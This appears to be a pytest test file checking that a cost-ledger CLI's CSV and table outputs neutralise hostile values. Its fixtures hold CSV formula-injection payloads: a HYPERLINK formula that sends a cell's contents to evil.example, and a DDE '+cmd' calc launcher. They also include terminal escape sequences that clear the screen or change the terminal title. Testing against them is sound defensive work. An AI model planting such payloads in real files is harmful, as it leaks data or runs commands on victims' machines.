"""Hostile tag values in every CSV and table a command writes (issue 14, item 5).

A sender chooses tag values, model names and agent paths. In CSV no text cell may start
a spreadsheet formula (OWASP: `=`, `+`, `-`, `@`, tab, CR get a leading `'`); on a
terminal no control character may arrive raw. Numbers stay numbers: a credit of -1.50
is written -1.5, not '-1.5. CSV is read back with Python's csv module.
"""

from __future__ import annotations

import csv
import io
import json
import unicodedata
from decimal import Decimal, InvalidOperation

import pytest

from costline_processor.cli import main
from costline_processor.ledger import open_ledger
from tests.ledger.factory import make_row

WINDOW = ["--since", "2026-03-01", "--until", "2026-03-10"]
TRACE = "ab" * 16
HOSTILE = {
    "feature": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "customer_id": "+cmd|' /C calc'!A0\x1b[2J",  # and clear the screen
    "team": "-2+3",
    "agent": "@SUM(1+1)",
}
ESCAPED_MODEL = "gpt\x1b]0;pwned\x07-4o\x9b31m"  # OSC title change, BEL, one-byte CSI
TAB_CUSTOMER, CR_CUSTOMER = "\tinvoice", "\r=1+1"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile_ledger(tmp_path):
    url = str(tmp_path / "ledger.db")
    rows = [
        make_row(
            "2.00", tags=HOSTILE, model=ESCAPED_MODEL, agent_path=HOSTILE["agent"], trace=TRACE, at="2026-03-02T10:00"
        ),
        make_row(
            "-1.50", tags={**HOSTILE, "customer_id": TAB_CUSTOMER}, trace=TRACE, at="2026-03-02T11:00"
        ),  # a credit
        make_row("0.25", tags={"feature": "plain", "customer_id": CR_CUSTOMER}, at="2026-03-03T10:00"),
    ]
    w = open_ledger(url, flush_interval_s=0.05)
    w.write(rows)
    w.close(10)
    return url


def _run(capsys, *argv: str, ok=(0,)) -> str:
    assert main(list(argv)) in ok
    return capsys.readouterr().out


def _csv_commands(ledger: str, tmp_path) -> dict[str, list[str]]:
    invoice = tmp_path / "invoice.csv"
    invoice.write_text(
        f"date,model,cost_usd,provider\n2026-03-02,=1+1,5.00,openai\n2026-03-02,{ESCAPED_MODEL},9.00,openai\n"
    )
    lg = ["--ledger", ledger]
    return {
        "report": ["report", "--by", "feature,customer_id,team,agent,model", *WINDOW, "--format", "csv", *lg],
        "report --untagged": ["report", "--untagged", *WINDOW, "--format", "csv", *lg],
        "top customers": ["top", "customers", *WINDOW, "--format", "csv", *lg],
        "top calls": ["top", "calls", *WINDOW, "--format", "csv", *lg],
        "trace": ["trace", TRACE, "--format", "csv", *lg],
        "alerts": ["alerts", "--customer-daily", "0.1", "--at", "2026-03-03", "--format", "csv", *lg],
        "reconcile": ["reconcile", "--invoice", str(invoice), "--format", "csv", *lg],
        "reprice": ["reprice", "--by", "feature,model", *WINDOW, "--format", "csv", *lg],
        "export focus": ["export", "--format", "focus", "--tags", "feature,customer_id,team", *WINDOW, *lg],
    }


def _is_number(text: str) -> bool:
    try:
        Decimal(text)
        return True
    except InvalidOperation:
        return False


def _controls(text: str, allowed: str = "") -> list[str]:
    return [c for c in text if unicodedata.category(c) == "Cc" and c not in allowed]


def test_csv_text_cells_never_start_a_formula_and_numbers_stay_numbers(hostile_ledger, tmp_path, capsys):
    checked = 0
    for name, argv in _csv_commands(hostile_ledger, tmp_path).items():
        text = _run(capsys, *argv, ok=(0, 1))
        assert not _controls(text, "\t\n"), f"{name}: raw control characters in CSV"
        rows = list(csv.reader(io.StringIO(text)))
        assert len(rows) > 1, f"{name} wrote no rows:\n{text}"
        for row in rows[1:]:
            for cell in row:
                checked += 1
                if cell.startswith(FORMULA_STARTS):
                    assert _is_number(cell), f"{name}: formula-like text cell {cell!r}"
    assert checked > 100


def test_hostile_values_are_kept_quoted_not_lost(hostile_ledger, capsys):
    rows = list(
        csv.DictReader(
            io.StringIO(
                _run(
                    capsys,
                    "report",
                    "--by",
                    "feature,customer_id,team,agent,model",
                    *WINDOW,
                    "--format",
                    "csv",
                    "--ledger",
                    hostile_ledger,
                )
            )
        )
    )
    by_cost = {Decimal(r["cost_usd"]): r for r in rows}
    first, credit, plain = by_cost[Decimal("2")], by_cost[Decimal("-1.5")], by_cost[Decimal("0.25")]
    assert first["feature"] == "'" + HOSTILE["feature"]
    assert first["customer_id"] == "'+cmd|' /C calc'!A0\\u001b[2J"
    assert first["team"] == "'-2+3" and first["agent"] == "'@SUM(1+1)"
    assert first["model"] == "gpt\\u001b]0;pwned\\u0007-4o\\u009b31m"
    assert credit["customer_id"] == "'\tinvoice" and plain["customer_id"] == "'\\r=1+1"
    assert credit["cost_usd"] == "-1.5"  # a number, not text: no quote


def test_focus_export_to_a_file_and_its_tags_stay_json(hostile_ledger, tmp_path, capsys):
    out = tmp_path / "focus.csv"
    _run(capsys, "export", "--tags", "feature,customer_id", *WINDOW, "--ledger", hostile_ledger, "-o", str(out))
    rows = list(csv.DictReader(out.open(newline="", encoding="utf-8")))
    inputs = [r for r in rows if r["SkuId"].endswith("/input")]  # the factory bills all of a call as input
    assert sorted(Decimal(r["BilledCost"]) for r in inputs) == [Decimal("-1.5"), Decimal("0.25"), Decimal("2")]
    for r in rows:
        for col, cell in r.items():
            assert not cell.startswith(FORMULA_STARTS) or _is_number(cell), (col, cell)
        json.loads(r["Tags"])
    model_row = next(r for r in inputs if "pwned" in r["SkuId"])
    assert model_row["SkuId"] == "gpt\\u001b]0;pwned\\u0007-4o\\u009b31m/input"
    assert json.loads(model_row["Tags"])["feature"] == HOSTILE["feature"]  # inside JSON it starts with {, no quote


def test_tables_show_control_characters_as_escapes(hostile_ledger, tmp_path, capsys):
    lg = ["--ledger", hostile_ledger]
    tables = {
        "report": ["report", "--by", "customer_id,model,agent", *WINDOW, *lg],
        "top calls": ["top", "calls", *WINDOW, *lg],
        "top models": ["top", "models", *WINDOW, *lg],
        "trace": ["trace", TRACE, *lg],
        "alerts": ["alerts", "--customer-daily", "0.1", "--at", "2026-03-03", "--format", "table", *lg],
        "reconcile": _csv_commands(hostile_ledger, tmp_path)["reconcile"][:3] + ["--format", "table", *lg],
    }
    for name, argv in tables.items():
        text = _run(capsys, *argv, ok=(0, 1))
        assert not _controls(text, "\n"), f"{name}: raw {_controls(text, chr(10))!r} reach the terminal"
        if name != "reconcile":
            assert "\\u001b" in text or "\\t" in text, f"{name}: hostile value not shown:\n{text}"
    text = _run(capsys, "report", "--by", "customer_id", *WINDOW, *lg)
    assert "\\tinvoice" in text and "\\r=1+1" in text
